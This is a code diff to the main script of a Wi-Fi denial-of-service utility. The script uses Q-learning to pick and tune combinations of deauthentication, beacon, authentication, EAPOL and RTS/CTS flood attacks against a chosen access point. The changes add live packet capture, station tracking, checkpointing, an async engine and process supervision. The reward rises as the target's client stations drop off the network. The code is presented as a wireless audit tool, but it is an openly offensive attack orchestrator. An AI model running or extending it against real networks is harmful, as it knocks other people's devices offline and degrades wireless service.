@@ -5,6 +5,8 @@
 main.py - The main script for launching a DoS utility with ML (Q-Learning) and reporting.
 """
 
+import asyncio
+import contextlib
 import os
 import sys
 import time
@@ -14,25 +16,29 @@ import random
 import csv
 import re
 
-from attacks import (
-    DeauthFlood, BeaconFlood, AuthDOS,
-    DeauthFloodMDK, EAPOLStartFlood,
-    WIDSConfusion, RTSCTSFlood, stop_all_attacks
-)
+from attacks import ATTACK_CLASSES
 from traffic_analyzer import TrafficAnalyzer
+from capture import LiveCapture
+from scheduler import StepScheduler
+from supervisor import ProcessSupervisor
+from station_tracker import StationTracker, parse_station_csv
 from ml_core import QLearningAgent
+from reward import effective_count, step_reward, outcome_label
+import instrument
 
 from report import cli_summary, generate_html  # <-- импорт отчётности
 
 
-def monitor_mode_setup():
+def monitor_mode_setup(interface=None):
+    """Puts an interface into monitor mode; asks for it when none is given."""
     print("[INFO] Checking for processes to kill...")
     os.system("sudo airmon-ng check kill")
-    interfaces = subprocess.getoutput("sudo airmon-ng").split("\n")
-    print("\n[INFO] Available Interfaces for Monitor Mode:")
-    for line in interfaces:
-        print(line)
-    interface = input("\nEnter interface for monitor mode (e.g. wlan0): ").strip()
+    if interface is None:
+        interfaces = subprocess.getoutput("sudo airmon-ng").split("\n")
+        print("\n[INFO] Available Interfaces for Monitor Mode:")
+        for line in interfaces:
+            print(line)
+        interface = input("\nEnter interface for monitor mode (e.g. wlan0): ").strip()
     if not interface:
         print("[ERROR] No interface.")
         sys.exit(1)
@@ -101,8 +107,8 @@ def is_valid_mac(mac):
     return re.match(r'^([0-9A-Fa-f]{2}:){5}[0-9A-Fa-f]{2}$', mac.strip()) is not None
 
 
+@instrument.traced("stations.parse_station_count")
 def parse_station_count(bssid, monitor_if, channel, capture_time=5, prefix="/tmp/airodump-stations", baseline=None):
-    import csv
     os.system(f"sudo rm -f {prefix}-01.csv {prefix}-01.kismet* {prefix}-01.log.csv")
     cmd = (
         f"sudo airodump-ng --bssid {bssid} --channel {channel} "
@@ -118,19 +124,7 @@ def parse_station_count(bssid, monitor_if, channel, capture_time=5, prefix="/tmp
     if not os.path.exists(path):
         return (0,set()) if baseline is None else 0
 
-    with open(path, newline='', encoding="utf-8", errors="ignore") as f:
-        rows = list(csv.reader(f))
-    station_macs = set()
-    header = None
-    for idx,row in enumerate(rows):
-        if row and row[0].strip()=="Station MAC":
-            header = idx
-            break
-    if header is not None:
-        for row in rows[header+1:]:
-            if len(row)>=6 and is_valid_mac(row[0]):
-                if row[5].strip().lower()==bssid.lower():
-                    station_macs.add(row[0].strip())
+    station_macs = parse_station_csv(path, bssid)
 
     if baseline is not None:
         return len(station_macs & baseline)
@@ -138,106 +132,214 @@ def parse_station_count(bssid, monitor_if, channel, capture_time=5, prefix="/tmp
         return len(station_macs), station_macs
 
 
-def main_loop(monitor_if, bssid, channel):
-    attack_classes = [
-        DeauthFlood,
-        BeaconFlood,
-        AuthDOS,
-        DeauthFloodMDK,
-        EAPOLStartFlood,
-        WIDSConfusion,
-        RTSCTSFlood
-    ]
+# seconds of every station count, the baseline included: a longer baseline
+# window sees more stations and would make every step look like a drop
+STATION_WINDOW = 2
+
+# QLearningAgent keyword arguments of an interactive run; agent_params overrides them
+DEFAULT_AGENT_PARAMS = {
+    "pps_levels": [1, 2],
+    "threads_levels": [1, 2],
+    "power_levels": [1],
+    "duration_levels": [1, 2],
+    "max_combo": 2,
+    "alpha": 0.1,
+    "gamma": 0.9,
+    "epsilon_start": 0.9,
+    "epsilon_end": 0.1,
+    "epsilon_decay": 0.98,
+    "replay_capacity": 5000,
+    "replay_k": 4,
+    "replay_batch": 32,
+}
+
+
+def main_loop(monitor_if, bssid, channel, capture_mode="live", trace_path=None,
+              checkpoint_path=None, checkpoint_every=5, engine="threads", profile_path=None,
+              episodes=15, steps_per_episode=3, step_cooldown=2, agent_params=None,
+              attack_classes=None, report_path="wifi_audit_report.html", open_browser=True):
+    """
+    Learns attack combinations against one BSSID and writes the reports.
+    Returns (best_combo, success_steps).
+    """
     agent = QLearningAgent(
-        attack_classes=attack_classes,
-        pps_levels=[1, 2],
-        threads_levels=[1, 2],
-        power_levels=[1],
-        duration_levels=[1, 2],
-        max_combo=2,
-        alpha=0.1,
-        gamma=0.9,
-        epsilon_start=0.9,
-        epsilon_end=0.1,
-        epsilon_decay=0.98
+        attack_classes=attack_classes or ATTACK_CLASSES,
+        **dict(DEFAULT_AGENT_PARAMS, **(agent_params or {}))
     )
 
     agent.success_history = []
 
+    # warm start from the previous run, then keep checkpointing in the background
+    checkpoints = None
+    if checkpoint_path:
+        from checkpoint import CheckpointWriter, CheckpointError, NoCheckpointError, load_checkpoint
+        # load_checkpoint itself falls back to <path>.old after a crash mid-swap
+        try:
+            load_checkpoint(agent, checkpoint_path)
+            print(f"[INFO] Warm start from {checkpoint_path}: "
+                  f"{len(agent.Q.states())} states, epsilon={agent.epsilon:.3f}")
+        except NoCheckpointError:
+            print(f"[INFO] No checkpoint at {checkpoint_path} yet, starting fresh")
+        except CheckpointError as e:
+            print(f"[WARN] Ignoring checkpoint {checkpoint_path}: {e}")
+        checkpoints = CheckpointWriter(checkpoint_path, every=checkpoint_every)
+
     os.system(f"sudo iwconfig {monitor_if} channel {channel}")
     time.sleep(1)
 
-    # baseline for station_count
-    base_count, baseline_macs = parse_station_count(bssid, monitor_if, channel)
-    print(f"[INFO] Initial station_count={base_count}")
-
-    analyzer = TrafficAnalyzer(pcap_file="/tmp/capture.pcap", bssid=bssid)
-    analyzer.establish_baseline(duration=2)
-
-    current_state = (base_count, 0, 0)
-
-    EPISODES = 15
-    STEPS_PER_EPISODE = 3
-
-    for episode in range(1, EPISODES + 1):
-        print(f"\n===== EPISODE {episode}/{EPISODES} =====")
-        for step in range(1, STEPS_PER_EPISODE + 1):
-            action_combo = agent.select_action(current_state)
-
-            agent.current_context = (episode, step, action_combo)
-
-            threads = []
-            for atk_obj, pps_lv, thr_lv, pow_lv, dur_lv in action_combo:
-                threads += atk_obj.run(
-                    pps_level=pps_lv,
-                    threads_level=thr_lv,
-                    power_level=pow_lv,
-                    duration_level=dur_lv,
-                    bssid=bssid,
-                    interface=monitor_if,
-                    channel=channel
-                )
-
-            time.sleep(3)
-            stop_all_attacks()
-            for t in threads:
-                t.join()
-
+    # every process, pool and file opened below is released however the run ends
+    with contextlib.ExitStack() as cleanup:
+        # spans/counters of the hot paths, exported as Chrome trace JSON at the end
+        if profile_path:
+            instrument.reset()
+            instrument.enable()
+            cleanup.callback(instrument.disable)
+        if checkpoints is not None:
+            cleanup.callback(checkpoints.close, agent)
+
+        # one airodump-ng for the whole run instead of a fresh one per step
+        tracker = StationTracker(bssid, monitor_if, channel).start()
+        cleanup.callback(tracker.stop)
+
+        # baseline for station_count, measured like the per-step counts
+        base_count, baseline_macs = tracker.window(STATION_WINDOW)
+        print(f"[INFO] Initial station_count={base_count}")
+
+        analyzer = TrafficAnalyzer(pcap_file="/tmp/capture.pcap", bssid=bssid)
+        analyzer.establish_baseline(duration=2)
+
+        # "live": one long-running tcpdump streamed into the analyzer;
+        # "file": the original per-step tcpdump -w /tmp/capture.pcap round trip
+        live = None
+        if capture_mode == "live":
+            live = LiveCapture.tcpdump(analyzer, monitor_if).start()
+            cleanup.callback(live.stop)
+
+        def capture_features(duration=2):
+            if live is not None:
+                return live.window(duration)
             os.system("sudo rm -f /tmp/capture.pcap")
-            os.system(f"sudo timeout 2 tcpdump -i {monitor_if} -w /tmp/capture.pcap >/dev/null 2>&1")
+            os.system(f"sudo timeout {duration} tcpdump -i {monitor_if} -w /tmp/capture.pcap >/dev/null 2>&1")
             analyzer.pcap_file = "/tmp/capture.pcap"
             analyzer.analyze_offline()
-            features = analyzer.get_features()
-
-            # station_count
-            new_count = parse_station_count(bssid, monitor_if, channel, baseline=baseline_macs)
-            effective = new_count if new_count >= (len(baseline_macs)/2) else 0
-
-            current_perf = analyzer.get_current_performance(duration=1)
-            reward = analyzer.baseline - current_perf
-
-            old = current_state[0]
-            if effective < old and effective > 0:
-                reward += 0.5 * (old - effective)
-            if effective == 0:
-                reward += 5.0 if old>0 else 1.0
-
-            pred = 1 if reward>=1.0 else 0
-            true = 1
-            agent.record_outcome(pred, true)
-
-            next_state = (effective, features["handshake_detected"], 0)
-            agent.update_q(current_state, action_combo, reward, next_state)
-            print(f"[STEP] E={episode}, Step={step}, st_count={new_count}, reward={reward:.2f}")
-            for i, slot in enumerate(action_combo,1):
-                atk, pps_lv, thr_lv, pw_lv, dur_lv = slot
-                print(f"   combo#{i}: {atk.name}, pps={pps_lv}, thr={thr_lv}, power={pw_lv}, dur={dur_lv}")
-            current_state = next_state
-            time.sleep(2)
-
-        acc, prec, rec, f1 = agent.compute_metrics()
-        print(f"[METRICS] Episode={episode}, Acc={acc:.2f}, Prec={prec:.2f}, Recall={rec:.2f}, F1={f1:.2f}")
-        agent.decay_epsilon()
+            return analyzer.get_features()
+
+        # optional step trace for offline re-training (step_trace.ReplayEnv)
+        trace = None
+        if trace_path:
+            from step_trace import TraceWriter
+            trace = TraceWriter(trace_path, agent.actions, meta={"bssid": bssid, "channel": channel})
+            cleanup.callback(trace.close)
+
+        scheduler = StepScheduler()
+        cleanup.callback(scheduler.close)
+        # stops the attack processes it started however the loop ends
+        supervisor = cleanup.enter_context(ProcessSupervisor())
+        current_state = (base_count, 0, 0)
+
+        EPISODES = episodes
+        STEPS_PER_EPISODE = steps_per_episode
+        STEP_COOLDOWN = step_cooldown
+
+        if engine == "async":
+            # the same episode/step loop as coroutines, see orchestrator.py
+            from orchestrator import Orchestrator, LiveIO
+
+            def on_step(episode, step, state, combo, next_state, reward, new_count, features, perf):
+                if trace is not None:
+                    trace.append(episode, step, state, agent.actions.index(combo), next_state, reward,
+                                 station_count=new_count, features=features,
+                                 probe=analyzer.get_reward_inputs())
+                if checkpoints is not None:
+                    checkpoints.maybe_save(agent)
+
+            io = LiveIO(analyzer, tracker, capture_features, baseline_macs, bssid, monitor_if, channel)
+            orchestrator = Orchestrator(agent, io, EPISODES, STEPS_PER_EPISODE,
+                                        window_seconds=STATION_WINDOW, cooldown=STEP_COOLDOWN,
+                                        on_step=on_step, scheduler=scheduler)
+            asyncio.run(orchestrator.run())
+            current_state = orchestrator.state
+        else:
+            for episode in range(1, EPISODES + 1):
+                print(f"\n===== EPISODE {episode}/{EPISODES} =====")
+                for step in range(1, STEPS_PER_EPISODE + 1):
+                    action_combo = agent.select_action(current_state)
+
+                    agent.current_context = (episode, step, action_combo)
+
+                    scheduler.begin_step()
+                    with scheduler.phase("attack"):
+                        launched = []
+                        for atk_obj, pps_lv, thr_lv, pow_lv, dur_lv in action_combo:
+                            launched += atk_obj.run(
+                                pps_level=pps_lv,
+                                threads_level=thr_lv,
+                                power_level=pow_lv,
+                                duration_level=dur_lv,
+                                bssid=bssid,
+                                interface=monitor_if,
+                                channel=channel,
+                                supervisor=supervisor
+                            )
+
+                        time.sleep(3)
+                        # only the processes started above, not every mdk4/aireplay-ng on the host
+                        supervisor.stop(launched)
+
+                    # capture, station count and probing all measure the same
+                    # post-attack period, so they share one window; the window also
+                    # covers the cooldown that used to be a separate sleep
+                    measured = scheduler.run_window({
+                        "capture": capture_features,
+                        "stations": lambda: tracker.window(STATION_WINDOW, baseline=baseline_macs),
+                        "probe": lambda: analyzer.get_current_performance(duration=1),
+                    }, min_duration=STEP_COOLDOWN)
+                    features = measured["capture"]
+
+                    # station_count
+                    new_count = measured["stations"]
+                    effective = effective_count(new_count, len(baseline_macs))
+
+                    current_perf = measured["probe"]
+                    reward = step_reward(analyzer.baseline, current_perf, current_state[0], effective)
+
+                    pred = outcome_label(reward)
+                    true = 1
+                    agent.record_outcome(pred, true)
+
+                    next_state = (effective, features["handshake_detected"], 0)
+                    agent.update_q(current_state, action_combo, reward, next_state)
+                    if trace is not None:
+                        trace.append(episode, step, current_state, agent.actions.index(action_combo),
+                                     next_state, reward, station_count=new_count, features=features,
+                                     probe=analyzer.get_reward_inputs())
+                    print(f"[STEP] E={episode}, Step={step}, st_count={new_count}, reward={reward:.2f}")
+                    for i, slot in enumerate(action_combo,1):
+                        atk, pps_lv, thr_lv, pw_lv, dur_lv = slot
+                        print(f"   combo#{i}: {atk.name}, pps={pps_lv}, thr={thr_lv}, power={pw_lv}, dur={dur_lv}")
+                    current_state = next_state
+                    if checkpoints is not None:
+                        checkpoints.maybe_save(agent)
+                    scheduler.end_step()
+                    print(scheduler.format_step())
+
+                acc, prec, rec, f1 = agent.compute_metrics()
+                print(f"[METRICS] Episode={episode}, Acc={acc:.2f}, Prec={prec:.2f}, Recall={rec:.2f}, F1={f1:.2f}")
+                agent.decay_epsilon()
+
+    sup = supervisor.summary()
+    print(f"[TIMING] attack processes: start mean={sup['start']['mean'] * 1000:.1f}ms, "
+          f"stop mean={sup['stop']['mean'] * 1000:.1f}ms max={sup['stop']['max'] * 1000:.1f}ms, "
+          f"killed={sup['killed']}")
+    if checkpoints is not None:
+        print(f"[INFO] Checkpoint saved to {checkpoint_path}")
+    mean = scheduler.summary()
+    print("[TIMING] mean per step: " + ", ".join(f"{k}={v:.2f}s" for k, v in mean.items()))
+
+    if profile_path:
+        instrument.print_summary()
+        n = instrument.export_chrome_trace(profile_path)
+        print(f"[INFO] Timing trace ({n} events): {profile_path}")
 
     print("[INFO] Q-Learning done.")
     best_combo = agent.get_best_action(current_state)
@@ -251,7 +353,8 @@ def main_loop(monitor_if, bssid, channel):
 
     # --- report here ---
     cli_summary(agent.success_history, best_combo)
-    generate_html(agent.success_history, best_combo)
+    generate_html(agent.success_history, best_combo, filename=report_path, open_browser=open_browser)
+    return best_combo, agent.success_history
 
 def main():
     monitor_if = monitor_mode_setup()